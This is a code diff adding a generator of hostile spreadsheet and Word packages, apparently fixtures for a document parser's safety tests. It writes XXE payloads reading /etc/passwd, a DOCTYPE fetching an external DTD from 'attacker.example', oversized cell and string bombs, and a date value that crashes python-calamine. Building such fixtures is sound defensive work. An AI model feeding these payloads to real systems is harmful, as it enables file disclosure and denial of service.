@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import argparse
 import io
+import re
 import struct
 import sys
 import zipfile
@@ -247,6 +248,109 @@ def build(out: Path) -> list[Path]:
     head, sep, rest = doc.partition(b"?>")
     tparts_xxe["word/document.xml"] = head + sep + f"<!DOCTYPE w:document [{xxe}]>".encode() + rest
     save("template_xxe.docx", tparts_xxe)
+    written.extend(build_package_safety(out))
+    return written
+
+
+# --- package safety: far cells written otherwise, date cells, encodings, long strings ----------------
+
+
+def _data_sheet_with(cells: bytes) -> dict[str, bytes]:
+    """The valid workbook with ``cells`` (raw XML) added as a last row of 数据."""
+    parts = xlsx_parts(valid_sheets())
+    parts["xl/worksheets/sheet4.xml"] = parts["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", cells + b"</sheetData>"
+    )
+    return parts
+
+
+def _requoted_workbook(parts: dict[str, bytes]) -> dict[str, bytes]:
+    """workbook.xml and its relationships in single quotes with spaces around ``=``, as XML allows."""
+    parts = dict(parts)
+    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
+        text = parts[name].decode()
+        head, sep, body = text.partition("?>")
+        parts[name] = (head + sep + re.sub(r'(\s[\w:]+)="([^"]*)"', r"\1 = '\2'", body)).encode()
+    return parts
+
+
+def package_safety_parts() -> dict[str, dict[str, bytes] | bytes]:
+    """Name -> parts (or whole file bytes) of each hostile package of this block."""
+    out: dict[str, dict[str, bytes] | bytes] = {}
+    out["far_cell_lowercase.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>')
+    out["far_cell_leading_zeros.xlsx"] = _data_sheet_with(b'<row r="1048576"><c r="XFD0001048576"><v>1</v></c></row>')
+    out["far_row_8_digits.xlsx"] = _data_sheet_with(b'<row r="10000000"><c r="A10000000"><v>1</v></c></row>')
+    out["far_cell_single_quotes.xlsx"] = _data_sheet_with(b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")
+    out["far_cell_spaced_eq.xlsx"] = _data_sheet_with(b'<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>')
+    out["far_cell_quoted_rels.xlsx"] = _requoted_workbook(
+        _data_sheet_with(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+    )
+    unmapped = xlsx_parts(valid_sheets())
+    unmapped["xl/worksheets/sheet9.xml"] = unmapped["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+    )
+    out["far_cell_unmapped_part.xlsx"] = unmapped
+    # Style 1 is numFmtId 14 (a date): python-calamine panics turning -1e20 into a date.
+    out["date_cell_minus_1e20.xlsx"] = _data_sheet_with(b'<row r="4"><c r="B4" s="1"><v>-1E+20</v></c></row>')
+    base = xlsx_parts(valid_sheets())
+    out["doctype_split.xlsx"] = {**base, "xl/worksheets/sheet4.xml": _split_doctype(base["xl/worksheets/sheet4.xml"])}
+    utf16 = dict(base)
+    utf16["xl/worksheets/sheet4.xml"] = (
+        _sheet_with_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")
+        .decode()
+        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+        .encode("utf-16")
+    )
+    out["utf16_sheet.xlsx"] = utf16
+    # One shared string of 8 MB (the attack used 900 MB; compressed, either is a few kilobytes).
+    sst = dict(base)
+    sst["xl/sharedStrings.xml"] = (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
+        + b"A" * (8 << 20)
+        + b"</t></si></sst>"
+    )
+    sst["xl/worksheets/sheet4.xml"] = sst["xl/worksheets/sheet4.xml"].replace(
+        b"</sheetData>", b'<row r="4"><c r="B4" t="s"><v>0</v></c></row></sheetData>'
+    )
+    sst["[Content_Types].xml"] = sst["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/sharedStrings.xml" '
+        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
+    )
+    sst["xl/_rels/workbook.xml.rels"] = sst["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
+    )
+    out["long_shared_string.xlsx"] = sst
+    return out
+
+
+def _split_doctype(xml: bytes) -> bytes:
+    """``xml`` with a DOCTYPE split across the boundary of the second and third 1 MB pieces inflated,
+    after a megabyte without ">" (the first piece ends with the ">" of a comment)."""
+    mb = 1 << 20
+    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<!--'
+    head += b" " * (mb - len(head) - 3) + b"-->"
+    root = xml.partition(b"?>")[2].lstrip()
+    name = root[1 : root.find(b" ")]
+    doctype = b"<!DOCTYPE " + name + b' SYSTEM "http://attacker.example/evil.dtd">'
+    return head + b" " * (mb - 4) + doctype + root
+
+
+def build_package_safety(out: Path) -> list[Path]:
+    written = []
+    template = (ROOT / "templates" / "bulletin.docx").read_bytes()
+    with zipfile.ZipFile(io.BytesIO(template)) as z:
+        tparts = {i.filename: z.read(i) for i in z.infolist()}
+    tparts["word/document.xml"] = _split_doctype(tparts["word/document.xml"])
+    written.append(write_parts(out / "template_doctype_split.docx", tparts))
+    for name, parts in package_safety_parts().items():
+        if isinstance(parts, bytes):
+            (out / name).write_bytes(parts)
+            written.append(out / name)
+        else:
+            written.append(write_parts(out / name, parts))
     return written
 
 
